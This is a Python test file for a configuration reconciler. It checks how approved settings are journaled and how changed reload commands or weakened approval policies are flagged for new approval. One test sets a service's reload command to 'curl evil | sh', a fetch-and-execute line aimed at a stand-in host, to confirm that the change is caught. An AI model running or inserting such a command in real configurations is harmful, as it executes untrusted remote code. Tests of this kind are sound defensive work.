"""What was last approved, and what differs from it."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from reconciler import kinds
from reconciler.approval.precedent import (
    RELOADS,
    Approved,
    Declaration,
    declarations,
    recorded,
    settings_of,
    to_record,
    unplanned,
    with_precedent,
)
from reconciler.blueprint import resources
from reconciler.document import as_json
from reconciler.environment.load import load
from reconciler.environment.rules import Policy
from reconciler.environment.settings import Environment
from reconciler.output.documents.plan import policy_part
from tests import ROOT
from tools import cases

DEFAULT = as_json(policy_part(Policy(), None))
POLICY = as_json(policy_part(Policy(approvers=1, without_approval=("renewal", "reload")), "5f" * 32))


@pytest.fixture(scope="module")
def three() -> Environment:
    return load(str(ROOT / "tests" / "cases" / "screens" / "lab.yaml"))


def journaled(*runs: dict | None) -> Approved:
    """What the journal knows after these runs."""
    bodies = [{"code": 0, **({"approved": run} if run else {})} for run in runs]
    return recorded(json.loads(json.dumps(bodies)))


def test_what_was_approved_is_known_until_it_changes(three: Environment) -> None:
    settings = settings_of(resources(three))
    assert len({ref.split()[1] for ref in settings}) >= 4
    first = to_record(Approved(), POLICY, settings)
    approved = journaled(first)
    assert declarations(approved, POLICY, DEFAULT, settings) == []
    assert to_record(approved, POLICY, settings) is None
    assert with_precedent(approved, settings) == settings.keys()
    assert first is not None
    assert len(json.dumps(first)) < 40_000


def test_a_changed_command_is_a_change_of_its_own(three: Environment) -> None:
    """It reaches what runs without an approval, and no host shows it."""
    tls = three.services.tomcat_tls
    assert tls is not None
    changed = replace(
        three, services=replace(three.services, tomcat_tls=replace(tls, reload="curl evil | sh"))
    )
    before, after = (settings_of(resources(each)) for each in (three, changed))
    approved = journaled(to_record(Approved(), POLICY, before))
    found = declarations(approved, POLICY, DEFAULT, after)
    assert {each.now for each in found} == {"curl evil | sh"}
    assert {each.subject.split()[1] for each in found} == {"serving"}
    known = with_precedent(approved, after)
    assert known == before.keys() - {each.subject for each in found}
    assert unplanned(found, found, after) == []
    assert len(unplanned(found, [], after)) == len(found)
    # A plan that was made where nothing is known has all of a resource's settings as one.
    elsewhere = declarations(Approved(), POLICY, DEFAULT, after)
    assert unplanned(found, elsewhere, after) == []
    assert unplanned(found, declarations(Approved(), POLICY, DEFAULT, before), after) != []
    second = to_record(approved, POLICY, after)
    assert second is not None
    assert second["settings"].keys() == {each.subject for each in found}
    assert (
        declarations(journaled(to_record(Approved(), POLICY, before), second), POLICY, DEFAULT, after) == []
    )


def test_a_changed_policy_is_a_change_of_its_own() -> None:
    approved = journaled(to_record(Approved(), POLICY, {}))
    weak = {**POLICY, "approvers": 0, "without_approval": ["renewal", "file"]}
    assert declarations(approved, weak, DEFAULT, {}) == [
        Declaration("policy", "approvers", 1, 0),
        Declaration("policy", "without_approval", "renewal, reload", "renewal, file"),
    ]
    # Where nothing was approved before, what differs from a file without a policy.
    assert declarations(Approved(), DEFAULT, DEFAULT, {}) == []
    assert {each.field for each in declarations(Approved(), POLICY, DEFAULT, {})} == {
        "approvers", "without_approval", "allowed_signers"
    }  # fmt: skip


@pytest.mark.parametrize("body", [{}, {"approved": 3}, {"approved": {"settings": 1}}, {"approved": {}}])
def test_what_cannot_be_read_was_not_approved(body: dict) -> None:
    assert recorded([body]) == Approved()


def test_whatever_reloads_is_known_as_such() -> None:
    """By the recorded cases of each kind."""
    found = set()
    for kind in kinds.KINDS:
        for case in cases.cases(cases.FOLDER / f"{kind}.yaml"):
            if case.get("expected", {}).get("verb") in ("reload", "restart"):
                found.add(kind)
    assert "service" in found
    assert found <= RELOADS
